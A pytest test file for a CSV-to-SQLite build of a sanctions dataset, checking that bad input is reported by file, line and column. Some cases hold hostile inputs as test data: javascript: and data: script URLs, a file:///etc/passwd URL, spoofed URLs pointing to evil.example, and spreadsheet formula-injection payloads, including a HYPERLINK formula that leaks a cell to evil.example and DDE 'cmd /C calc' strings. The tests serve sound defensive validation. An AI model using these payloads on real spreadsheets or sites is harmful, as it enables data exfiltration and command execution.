"""build.py: valid data builds; every kind of bad input fails with file:line:column and loses nothing."""
import csv
import hashlib
import io
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

import build
from conftest import ROOT, VALID, write_csv


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_build(data: Path, out: Path, capsys) -> tuple[int, list[str]]:
    code = build.main(["--data", str(data), "--output", str(out)])
    err = capsys.readouterr().err
    return code, [line for line in err.splitlines() if not line.startswith("build failed")]


def set_cell(data: Path, file: str, line: int, column: str, value: str) -> None:
    """Change one cell: `line` is the physical line (header = 1) in the fixture."""
    set_cells(data, file, line, **{column: value})


def set_cells(data: Path, file: str, line: int, **values: str) -> None:
    """Change several cells of one line at once."""
    rows = list(csv.reader(io.StringIO((data / file).read_text(encoding="utf-8"), newline="")))
    for column, value in values.items():
        rows[line - 1][rows[0].index(column)] = value
    write_csv(data / file, rows)


def edit_rows(data: Path, file: str, fn) -> None:
    rows = list(csv.reader(io.StringIO((data / file).read_text(encoding="utf-8"), newline="")))
    write_csv(data / file, fn(rows))


def replace_text(data: Path, file: str, old: str, new: str) -> None:
    p = data / file
    text = p.read_text(encoding="utf-8")
    assert old in text, f"fixture has no {old!r}"
    p.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_valid_fixture_builds(valid_dir, tmp_path, capsys):
    out = tmp_path / "out.db"
    code, errors = run_build(valid_dir, out, capsys)
    assert (code, errors) == (0, [])
    db = sqlite3.connect(out)
    assert db.execute("select count(*) from responses").fetchone()[0] == 3
    # Types come from the schema: integers stay integers, empty cells are NULL.
    assert db.execute("select targets_count, typeof(targets_count), amount, instrument from responses where id='r-one'").fetchone() == (40, "integer", None, "Act 1")
    assert db.execute("select description from responses where id='r-three'").fetchone()[0] == "Description, with a comma."


def test_publication_dates_keep_the_precision_the_page_shows(valid_dir, tmp_path, capsys):
    """A source may be dated to the year only (the page shows no more); an act may not."""
    set_cell(valid_dir, "sources.csv", 2, "published_date", "2021")
    out = tmp_path / "out.db"
    assert run_build(valid_dir, out, capsys) == (0, [])
    assert sqlite3.connect(out).execute("select published_date from sources where id = 's-one'").fetchone() == ("2021",)
    set_cell(valid_dir, "responses.csv", 2, "date", "2020")
    code, errors = run_build(valid_dir, out, capsys)
    assert code == 1 and any("responses.csv:2:2:" in e and "not an ISO date (YYYY-MM-DD, or YYYY-MM" in e for e in errors), errors


def test_real_data_builds_and_summary_line(tmp_path):
    out = tmp_path / "belarus.db"
    proc = subprocess.run([sys.executable, "build.py", "--output", str(out)], cwd=ROOT, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr == ""
    lines = proc.stdout.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("built ") and "responses" in lines[0]


def test_build_is_deterministic(tmp_path):
    a, b = tmp_path / "a.db", tmp_path / "b.db"
    build.build(ROOT / "data", a)
    build.build(ROOT / "data", b)
    dump = lambda p: list(sqlite3.connect(p).iterdump())
    assert dump(a) == dump(b)


def test_one_process_and_two_build_the_same_database(tmp_path, monkeypatch):
    """The load shared with a second process (then copied in by SQLite) gives the same database as one process:
    the same tables, rows and indexes (created in another order; the planner's sampled statistics may differ)."""
    a, b = tmp_path / "a.db", tmp_path / "b.db"
    build.build(ROOT / "data", a, downloads=False)
    monkeypatch.setattr(build, "PARALLEL", False)
    build.build(ROOT / "data", b, downloads=False)
    dump = lambda p: sorted(line for line in sqlite3.connect(p).iterdump() if "sqlite_stat" not in line)
    assert dump(a) == dump(b)


def test_cli_failure_exit_code_and_message(valid_dir, tmp_path):
    set_cell(valid_dir, "responses.csv", 2, "date", "2021-02-30")
    out = tmp_path / "out.db"
    proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "--data", str(valid_dir), "--output", str(out)],
                          capture_output=True, text=True)
    assert proc.returncode == 1
    assert "responses.csv:2:2: date: '2021-02-30' is not a real calendar date" in proc.stderr
    assert "was not changed" in proc.stderr
    assert not out.exists()


# Each case: how to break the fixture, and every file:line:column (with a phrase) the build must report.
CASES = {
    "missing column": (lambda d: edit_rows(d, "responses.csv", lambda rows: [r[:-1] for r in rows]),
                       [("responses.csv:1:30:", "missing column 'changed_in'")]),
    "extra column": (lambda d: edit_rows(d, "responses.csv", lambda rows: [r + ["x"] for r in rows]),
                     [("responses.csv:1:31:", "unexpected column 'x'")]),
    "wrong header order": (lambda d: edit_rows(d, "responses.csv", lambda rows: [r[:5] + [r[6], r[5]] + r[7:] for r in rows]),
                           [("responses.csv:1:6:", "wrong order")]),
    "duplicate column": (lambda d: replace_text(d, "sources.csv", "language\n", "title\n"),
                         [("sources.csv:1:7:", "appears twice"), ("sources.csv:1:8:", "missing column 'language'")]),
    "empty required field": (lambda d: set_cell(d, "responses.csv", 2, "title", ""),
                             [("responses.csv:2:6:", "is required but empty")]),
    "unknown response_type": (lambda d: set_cell(d, "responses.csv", 2, "response_type", "sanction"),
                              [("responses.csv:2:5:", "'sanction' is not one of")]),
    "unknown binding": (lambda d: set_cell(d, "responses.csv", 2, "binding", "maybe"),
                        [("responses.csv:2:8:", "'maybe' is not one of")]),
    "unknown source_kind": (lambda d: set_cell(d, "sources.csv", 2, "source_kind", "blog"),
                            [("sources.csv:2:6:", "'blog' is not one of")]),
    "unknown actor_type": (lambda d: set_cell(d, "actors.csv", 4, "actor_type", "country"),
                           [("actors.csv:4:8:", "'country' is not one of")]),
    "impossible day": (lambda d: set_cell(d, "responses.csv", 2, "date", "2021-02-30"),
                       [("responses.csv:2:2:", "not a real calendar date")]),
    "impossible month": (lambda d: set_cell(d, "responses.csv", 2, "date", "2021-13-01"),
                         [("responses.csv:2:2:", "not a real calendar date")]),
    "not an ISO date": (lambda d: set_cell(d, "responses.csv", 2, "date", "02/10/2020"),
                        [("responses.csv:2:2:", "not an ISO date")]),
    "date before the period": (lambda d: set_cell(d, "responses.csv", 2, "date", "2019-12-31"),
                               [("responses.csv:2:2:", "before the period")]),
    "date in the future": (lambda d: set_cell(d, "responses.csv", 2, "date", "2099-01-01"),
                           [("responses.csv:2:2:", "in the future")]),
    "bad end_date": (lambda d: (set_cell(d, "responses.csv", 2, "end_date", "2021-04-31")),
                     [("responses.csv:2:17:", "not a real calendar date")]),
    "precision does not match date": (lambda d: set_cell(d, "responses.csv", 4, "date_precision", "day"),
                                      [("responses.csv:4:3:", "has month precision")]),
    "bad published_date": (lambda d: set_cell(d, "sources.csv", 2, "published_date", "2021-1-2"),
                           [("sources.csv:2:5:", "not an ISO date")]),
    "duplicate response id": (lambda d: set_cell(d, "responses.csv", 4, "id", "r-one"),
                              [("responses.csv:4:1:", "duplicate 'r-one'; first used on line 2")]),
    "duplicate actor id": (lambda d: set_cell(d, "actors.csv", 3, "id", "org-a"),
                           [("actors.csv:3:1:", "duplicate 'org-a'")]),
    "duplicate link": (lambda d: edit_rows(d, "response_sources.csv", lambda rows: rows + [rows[1]]),
                       [("response_sources.csv:5:1:", "duplicate response_id+source_id")]),
    "id not a slug": (lambda d: set_cell(d, "sources.csv", 3, "id", "S Two"),
                      [("sources.csv:3:1:", "does not match the pattern"), ("response_sources.csv:4:2:", "'s-two' is not an id")]),
    "dangling actor_id": (lambda d: set_cell(d, "responses.csv", 2, "actor_id", "nowhere"),
                          [("responses.csv:2:4:", "'nowhere' is not an id in actors.csv")]),
    "dangling trigger_id": (lambda d: set_cell(d, "responses.csv", 2, "trigger_id", "t-none"),
                            [("responses.csv:2:18:", "'t-none' is not an id in triggers.csv")]),
    "dangling responds_to_id": (lambda d: set_cell(d, "responses.csv", 3, "responds_to_id", "r-none"),
                                [("responses.csv:3:19:", "'r-none' is not an id in responses.csv")]),
    "dangling parent_id": (lambda d: set_cell(d, "actors.csv", 3, "parent_id", "org-z"),
                           [("actors.csv:3:9:", "'org-z' is not an id in actors.csv")]),
    "dangling link response_id": (lambda d: set_cell(d, "response_sources.csv", 2, "response_id", "r-zzz"),
                                  [("response_sources.csv:2:1:", "'r-zzz' is not an id in responses.csv"),
                                   ("responses.csv:2:1:", "has no source")]),
    "dangling link source_id": (lambda d: set_cell(d, "response_sources.csv", 2, "source_id", "s-zzz"),
                                [("response_sources.csv:2:2:", "'s-zzz' is not an id in sources.csv")]),
    "dangling trigger source": (lambda d: set_cell(d, "triggers.csv", 2, "source_id", "s-zzz"),
                                [("triggers.csv:2:6:", "'s-zzz' is not an id in sources.csv")]),
    "response without a source": (lambda d: edit_rows(d, "response_sources.csv", lambda rows: rows[:3]),
                                  [("responses.csv:4:1:", "'r-two' has no source")]),
    "javascript: URL": (lambda d: set_cell(d, "sources.csv", 2, "url", "javascript:alert(1)"),
                        [("sources.csv:2:2:", "not an http(s) URL")]),
    "data: URL": (lambda d: set_cell(d, "sources.csv", 2, "url", "data:text/html,<script>alert(1)</script>"),
                  [("sources.csv:2:2:", "not an http(s) URL")]),
    "file: URL": (lambda d: set_cell(d, "sources.csv", 2, "url", "file:///etc/passwd"),
                  [("sources.csv:2:2:", "not an http(s) URL")]),
    "javascript: website": (lambda d: set_cell(d, "actors.csv", 2, "website", "javascript:alert(1)"),
                            [("actors.csv:2:14:", "not an http(s) URL")]),
    "URL with a space": (lambda d: set_cell(d, "sources.csv", 3, "url", "https://example.org/a b"),
                         [("sources.csv:3:2:", "not an http(s) URL")]),
    "invalid UTF-8": (lambda d: (d / "responses.csv").write_bytes((d / "responses.csv").read_bytes().replace(b"Title two", b"Title \xff two")),
                      [("responses.csv:4:", "invalid UTF-8 byte 0xff")]),
    "NUL byte": (lambda d: replace_text(d, "sources.csv", "Source one", "Source\x00one"),
                 [("sources.csv:2:", "NUL byte")]),
    "unbalanced quote": (lambda d: replace_text(d, "responses.csv", "Title two", '"Title two'),
                         [("responses.csv:4:1:", "unbalanced double quote")]),
    "truncated last line": (lambda d: (d / "response_sources.csv").write_text(
        (d / "response_sources.csv").read_text().rstrip("\n").rsplit(",", 1)[0], encoding="utf-8"),
        [("response_sources.csv:4:3:", "expected 3 fields, found 2")]),
    "empty file": (lambda d: (d / "triggers.csv").write_text("", encoding="utf-8"),
                   [("triggers.csv:1:1:", "file is empty"), ("responses.csv:2:18:", "'t-one' is not an id")]),
    "missing file": (lambda d: (d / "sources.csv").unlink(),
                     [("sources.csv:1:1:", "file is missing")]),
    "blank line in the middle": (lambda d: replace_text(d, "actors.csv", "\nxa,", "\n\nxa,"),
                                 [("actors.csv:4:1:", "empty line")]),
    "not a whole number": (lambda d: set_cell(d, "responses.csv", 2, "targets_count", "40 people"),
                           [("responses.csv:2:13:", "not a whole number")]),
    "negative count": (lambda d: set_cell(d, "responses.csv", 2, "targets_count", "-3"),
                       [("responses.csv:2:13:", "below the minimum 0")]),
    "not a number": (lambda d: set_cell(d, "responses.csv", 3, "amount", "1,000"),
                     [("responses.csv:3:14:", "not a number")]),
    "amount without currency": (lambda d: set_cell(d, "responses.csv", 3, "currency", ""),
                                [("responses.csv:3:15:", "amount and currency go together")]),
    "bad currency code": (lambda d: set_cell(d, "responses.csv", 3, "currency", "euro"),
                          [("responses.csv:3:15:", "does not match the pattern")]),
    "latitude out of range": (lambda d: set_cell(d, "actors.csv", 4, "latitude", "200"),
                              [("actors.csv:4:12:", "above the maximum 90")]),
    "names from an unknown source": (lambda d: set_cell(d, "actors.csv", 4, "name_ru_source_id", "s-nowhere"),
                                     [("actors.csv:4:6:", "'s-nowhere' is not an id in sources.csv")]),
    "name without its source": (lambda d: set_cell(d, "targets.csv", 2, "name_be_source_id", ""),
                                [("targets.csv:2:10:", "name_be_source_id: required when name_be is given")]),
    "name source without the name": (lambda d: set_cell(d, "actors.csv", 4, "name_be", ""),
                                     [("actors.csv:4:3:", "name_be: empty, but name_be_source_id is set")]),
    "no Cyrillic name, yet a name": (lambda d: set_cell(d, "actors.csv", 4, "no_cyrillic_name", "descriptive_label"),
                                     [("actors.csv:4:7:", "no_cyrillic_name: is 'descriptive_label', but the row has a Cyrillic name")]),
    "unknown no_cyrillic_name": (lambda d: set_cell(d, "actors.csv", 2, "no_cyrillic_name", "none"),
                                 [("actors.csv:2:7:", "'none' is not one of")]),
    "aircraft without registration_mark": (lambda d: set_cells(d, "targets.csv", 2, target_type="aircraft", name_be="", name_ru="",
                                                               name_be_source_id="", name_ru_source_id=""),
                                           [("targets.csv:2:12:", "registration_mark is for aircraft, and every aircraft has it")]),
    "state without iso_code": (lambda d: set_cell(d, "actors.csv", 4, "iso_code", ""),
                               [("actors.csv:4:10:", "required for states")]),
    "stray whitespace": (lambda d: set_cell(d, "responses.csv", 2, "title", " Title one"),
                         [("responses.csv:2:6:", "spaces or line breaks at its start or end")]),
    "end_date on a measure in force": (lambda d: set_cell(d, "responses.csv", 2, "end_date", "2021-01-01"),
                                       [("responses.csv:2:17:", "status is 'in_force'")]),
    "end_date before date": (lambda d: (set_cell(d, "responses.csv", 2, "end_date", "2020-09-01"),
                                        set_cell(d, "responses.csv", 2, "status", "lifted")),
                             [("responses.csv:2:17:", "is before date 2020-10-02")]),
    "bad language code": (lambda d: set_cell(d, "sources.csv", 2, "language", "english"),
                          [("sources.csv:2:7:", "does not match the pattern")]),
    # Hostile or broken values (issue 16): each refused with its position and what to do, never a traceback.
    "URL with an unclosed IPv6 bracket": (lambda d: set_cell(d, "sources.csv", 2, "url", "http://[::1"),
                                          [("sources.csv:2:2:", "not a valid URL")]),
    "URL with a backslash before @": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://evil.example\\@good"),
                                      [("sources.csv:2:2:", "backslash")]),
    "URL with a port out of range": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://example.org:99999/"),
                                     [("sources.csv:2:2:", "not a valid URL")]),
    "URL with a user name": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://good.example@evil.example/"),
                             [("sources.csv:2:2:", "user name before '@'")]),
    "30-digit whole number": (lambda d: set_cell(d, "responses.csv", 2, "targets_count", "1" * 30),
                              [("responses.csv:2:13:", "out of range")]),
    "30-digit amount": (lambda d: set_cell(d, "responses.csv", 3, "amount", "9" * 30),
                        [("responses.csv:3:14:", "out of range")]),
    "data path is a folder": (lambda d: ((d / "triggers.csv").unlink(), (d / "triggers.csv").mkdir()),
                              [("triggers.csv:1:1:", "is a folder, not a file")]),
    "table with only its header": (lambda d: edit_rows(d, "designations.csv", lambda rows: rows[:1]),
                                   [("designations.csv:1:1:", "no rows, only the header")]),
    "underscores in a number": (lambda d: set_cell(d, "responses.csv", 3, "amount", "1_000"),
                                [("responses.csv:3:14:", "not a number")]),
    "underscores in a whole number": (lambda d: set_cell(d, "responses.csv", 2, "targets_count", "4_0"),
                                      [("responses.csv:2:13:", "not a whole number")]),
    "Arabic-Indic digits": (lambda d: (set_cell(d, "responses.csv", 2, "targets_count", "٤٠"),
                                       set_cell(d, "actors.csv", 2, "latitude", "٤٦.٢")),
                            [("responses.csv:2:13:", "not a whole number"), ("actors.csv:2:12:", "not a number")]),
    "publication date in the year 1000": (lambda d: set_cell(d, "sources.csv", 2, "published_date", "1000-01-01"),
                                          [("sources.csv:2:5:", "before 1900")]),
    "birth date in 2099": (lambda d: set_cell(d, "targets.csv", 2, "date_of_birth", "2099"),
                           [("targets.csv:2:8:", "in the future")]),
    "zero-width space": (lambda d: set_cell(d, "responses.csv", 2, "title", "Title\u200bone"),
                         [("responses.csv:2:6:", "U+200B (ZERO WIDTH SPACE)")]),
    "right-to-left override in a URL": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://example.org/\u202egpj.exe"),
                                        [("sources.csv:2:2:", "U+202E (RIGHT-TO-LEFT OVERRIDE)")]),
    "byte-order mark in the middle of a file": (lambda d: replace_text(d, "actors.csv", "\nxa,", "\n\ufeffxa,"),
                                                [("actors.csv:4:1:", "byte-order mark in the middle of the file")]),
    "ANSI escape in a cell": (lambda d: set_cell(d, "responses.csv", 3, "notes", "\x1b[31mA note.\x1b[0m"),
                              [("responses.csv:3:20:", "U+001B")]),
    "bell character in a cell": (lambda d: set_cell(d, "triggers.csv", 2, "description", "Something\x07 happened."),
                                 [("triggers.csv:2:5:", "U+0007")]),
    "formula in a title": (lambda d: set_cell(d, "responses.csv", 2, "title", '=HYPERLINK("http://evil.example/?leak="&A1,"x")'),
                           [("responses.csv:2:6:", "a spreadsheet opening the download would run it as a formula")]),
    "formula in a description": (lambda d: set_cell(d, "responses.csv", 2, "description", "+cmd|' /C calc'!A0"),
                                 [("responses.csv:2:7:", "starts with '+'")]),
    "formula starting with @": (lambda d: set_cell(d, "responses.csv", 3, "notes", "@SUM(1+1)*cmd|' /C calc'!A0"),
                                [("responses.csv:3:20:", "starts with '@'")]),
    "formula starting with -": (lambda d: set_cell(d, "sources.csv", 2, "title", "-2+3+cmd|' /C calc'!A0"),
                                [("sources.csv:2:3:", "starts with '-'")]),
    "formula after a leading tab": (lambda d: set_cell(d, "actors.csv", 2, "name", "\t=1+1"),
                                    [("actors.csv:2:2:", "starts with '='"), ("actors.csv:2:2:", "spaces or line breaks")]),
    "formula after a leading carriage return": (lambda d: set_cell(d, "targets.csv", 2, "role", "\r\n=1+1"),
                                                [("targets.csv:2:7:", "starts with '='")]),
    "rule: a response answering itself": (lambda d: set_cell(d, "responses.csv", 3, "responds_to_id", "r-three"),
                                          [("responses.csv:3:19:", "cannot answer itself")]),
    "rule: an actor its own parent": (lambda d: set_cell(d, "actors.csv", 3, "parent_id", "org-a-body"),
                                      [("actors.csv:3:9:", "cannot be its own parent")]),
    "rule: latitude without longitude": (lambda d: set_cell(d, "actors.csv", 2, "longitude", ""),
                                         [("actors.csv:2:12:", "latitude and longitude go together")]),
    "rule: precision of a trigger's date": (lambda d: set_cell(d, "triggers.csv", 2, "date_precision", "month"),
                                            [("triggers.csv:2:4:", "has day precision")]),
    "rule: a note naming a row that does not exist": (
        lambda d: set_cell(d, "responses.csv", 3, "notes", "Follows xa-2020-10-02-title-one (see there)."),
        [("responses.csv:3:20:", "names xa-2020-10-02-title-one, which is not the id of a response")]),
    "rule: a designation naming a source that does not exist": (
        lambda d: set_cell(d, "designations.csv", 2, "program", "Act 1 (date per s-gone-2021-source)"),
        [("designations.csv:2:", "names s-gone-2021-source, which is not the id of a source")]),
    "several problems in several files": (lambda d: (set_cell(d, "responses.csv", 2, "binding", "maybe"),
                                                     set_cell(d, "sources.csv", 3, "url", "ftp://x.org/"),
                                                     set_cell(d, "actors.csv", 2, "name", "")),
                                          [("actors.csv:2:2:", "required"), ("sources.csv:3:2:", "http(s)"),
                                           ("responses.csv:2:8:", "'maybe'")]),
}


@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_bad_input_is_reported_and_loses_nothing(case, valid_dir, tmp_path, capsys):
    out = tmp_path / "belarus.db"
    assert run_build(valid_dir, out, capsys)[0] == 0
    before = sha(out)
    breaker, expected = CASES[case]
    breaker(valid_dir)
    code, errors = run_build(valid_dir, out, capsys)
    assert code == 1
    for where, phrase in expected:
        assert any(where in e and phrase in e for e in errors), f"no {where} ... {phrase!r} in:\n" + "\n".join(errors)
    # Every message names file:line:column.
    for e in errors:
        assert e.split(":")[0].endswith(".csv") and e.split(":")[1].isdigit() and e.split(":")[2].isdigit(), e
    assert sha(out) == before, "a failed build changed the previous database"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".belarus.db.tmp")] == []


def test_windows_1251_file_gets_one_message(valid_dir, tmp_path, capsys):
    """A file saved as Windows-1251: one message naming the file and the encoding, not one per byte."""
    out = tmp_path / "belarus.db"
    set_cell(valid_dir, "responses.csv", 2, "description", "Санкции против должностных лиц режима Лукашенко.")
    p = valid_dir / "responses.csv"
    p.write_bytes(p.read_text(encoding="utf-8").encode("cp1251"))
    code, errors = run_build(valid_dir, out, capsys)
    mine = [e for e in errors if "responses.csv:" in e]
    assert code == 1 and len(mine) == 1, errors
    assert mine[0].startswith(f"{p.relative_to(Path.cwd()) if p.is_relative_to(Path.cwd()) else p}:2:")
    assert "not UTF-8" in mine[0] and "Windows-1251" in mine[0] and "Save it as UTF-8" in mine[0]


def test_an_11_mb_cell_gets_one_message(valid_dir, tmp_path, capsys):
    set_cell(valid_dir, "responses.csv", 3, "description", "x" * 11_000_000)
    code, errors = run_build(valid_dir, tmp_path / "o.db", capsys)
    assert code == 1 and len(errors) == 1, errors[:5]
    assert "responses.csv:3:7:" in errors[0] and "cell too large: 11,000,000 characters; the limit is 100,000" in errors[0]


def test_negative_numbers_and_inner_signs_are_fine(valid_dir, tmp_path, capsys):
    """Only free text is refused for a leading = + - @: a negative longitude is a number, and signs inside text stay."""
    set_cells(valid_dir, "actors.csv", 2, latitude="-33.9", longitude="-70.6")
    set_cell(valid_dir, "responses.csv", 2, "title", "Title = one + two - three @ four")
    out = tmp_path / "o.db"
    assert run_build(valid_dir, out, capsys) == (0, [])
    db = sqlite3.connect(out)
    assert db.execute("select latitude, longitude from actors where id = 'org-a'").fetchone() == (-33.9, -70.6)


def test_a_table_may_be_empty_when_the_package_says_so(valid_dir, tmp_path, capsys):
    import json
    pkg = json.loads((ROOT / "datapackage.json").read_text(encoding="utf-8"))
    next(r for r in pkg["resources"] if r["name"] == "designations")["x_allow_empty"] = True
    (tmp_path / "datapackage.json").write_text(json.dumps(pkg), encoding="utf-8")
    edit_rows(valid_dir, "designations.csv", lambda rows: rows[:1])
    out = tmp_path / "o.db"
    code = build.main(["--data", str(valid_dir), "--output", str(out), "--datapackage", str(tmp_path / "datapackage.json")])
    assert code == 0, capsys.readouterr().err
    assert sqlite3.connect(out).execute("select count(*) from designations").fetchone() == (0,)


@pytest.mark.parametrize("how", ["bom", "crlf", "bom+crlf"])
def test_spreadsheet_habits_are_accepted_and_normalised(how, valid_dir, tmp_path, capsys):
    for p in valid_dir.glob("*.csv"):
        data = p.read_bytes()
        if "crlf" in how:
            data = data.replace(b"\n", b"\r\n")
        if "bom" in how:
            data = b"\xef\xbb\xbf" + data
        p.write_bytes(data)
    out = tmp_path / "out.db"
    assert run_build(valid_dir, out, capsys) == (0, [])
    db = sqlite3.connect(out)
    assert db.execute("select id from actors order by id").fetchall() == [("org-a",), ("org-a-body",), ("xa",)]
    assert not any("\r" in (v or "") or "\ufeff" in (v or "") for (v,) in db.execute("select name from actors"))


def test_multiline_quoted_field_keeps_line_numbers(valid_dir, tmp_path, capsys):
    set_cell(valid_dir, "responses.csv", 2, "description", "First line.\nSecond line.")
    set_cell(valid_dir, "responses.csv", 4, "binding", "maybe")  # physical line 5 now
    code, errors = run_build(valid_dir, tmp_path / "o.db", capsys)
    assert code == 1 and any("responses.csv:5:8:" in e for e in errors), errors


def test_interrupted_write_leaves_previous_database(valid_dir, tmp_path, monkeypatch):
    out = tmp_path / "belarus.db"
    build.build(valid_dir, out)
    before = sha(out)

    def boom(db):
        raise RuntimeError("disk full")
    monkeypatch.setattr(build, "build_search", boom)
    with pytest.raises(RuntimeError):
        build.build(valid_dir, out)
    assert sha(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["belarus.db", "data", "downloads"]


def test_search_index_covers_cyrillic_and_diacritics(valid_dir, tmp_path):
    set_cell(valid_dir, "responses.csv", 2, "description", "Санкции против Лукашенко; Lukašenka; Sviatlana Tsikhanouskaya")
    out = tmp_path / "o.db"
    build.build(valid_dir, out)
    db = sqlite3.connect(out)
    # The plain index matches words as written (case aside, diacritics included) ...
    for q in ["лукашенко", "Lukašenka", "tsikhanouskaya", "State"]:
        assert db.execute("select rowid from responses_fts where responses_fts match ?", (q,)).fetchall(), q
    assert not db.execute("select rowid from responses_fts where responses_fts match 'Lukasenka'").fetchall()
    # ... and search_fts, as every search box, finds every script and spelling through search_vocabulary.
    sys.path.insert(0, str(ROOT))
    import search_index
    search = search_index.search_fold.Search(db)
    first_id = next(csv.DictReader(io.StringIO((valid_dir / "responses.csv").read_text(encoding="utf-8"))))["id"]
    row = db.execute("select rowid from responses where id = ?", (first_id,)).fetchone()  # line 2: the first row
    for q in ["Lukasenka", "Лукашэнка", "Lukashenko", "Tsikhanouskaya", "Sanktsii"]:
        found = {r[0] for r in db.execute("select rowid from responses_fts where responses_fts match ?",
                                          (search.search_fts(q),))}
        assert row[0] in found, q


def test_csvs_to_sqlite_on_same_csvs_agrees(built_db, tmp_path):
    """The baseline tool loads the same CSVs: same tables, same row counts, same values."""
    exe = Path(sys.executable).with_name("csvs-to-sqlite")
    other = tmp_path / "baseline.db"
    proc = subprocess.run([str(exe), *sorted(str(p) for p in (ROOT / "data").glob("*.csv")), str(other)],
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    ours, theirs = sqlite3.connect(built_db), sqlite3.connect(other)

    def norm(v):
        if v is None or (isinstance(v, float) and v != v):
            return ""
        if isinstance(v, float) and v.is_integer():
            return str(int(v))
        return str(v)

    for csv_path in sorted((ROOT / "data").glob("*.csv")):
        table = csv_path.stem
        cols = next(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
        sel = ", ".join(f'"{c}"' for c in cols)
        a = sorted(tuple(norm(v) for v in r) for r in ours.execute(f'select {sel} from "{table}"'))
        b = sorted(tuple(norm(v) for v in r) for r in theirs.execute(f'select {sel} from "{table}"'))
        assert len(a) == len(b), table
        assert a == b, table


def test_rules_name_cells_by_primary_key(valid_dir, tmp_path, capsys, monkeypatch):
    """rules.py gets locate(table, key, column) -> (file, line, column): right after a multi-line cell, and for a
    composite key."""
    import rules
    set_cell(valid_dir, "responses.csv", 2, "description", "First line.\nSecond line.")  # r-one now spans lines 2-3

    def example_rule(conn, locate):
        return [build.Problem(*locate("responses", "r-two", "title"), "title: an example rule"),
                build.Problem(*locate("response_sources", ("r-three", "s-one"), "supports"), "supports: an example rule")]
    monkeypatch.setattr(rules, "RULES", [example_rule])
    out = tmp_path / "o.db"
    code, errors = run_build(valid_dir, out, capsys)
    assert code == 1 and not out.exists()
    assert any("responses.csv:5:6: title: an example rule" in e for e in errors), errors
    assert any("response_sources.csv:3:3: supports: an example rule" in e for e in errors), errors
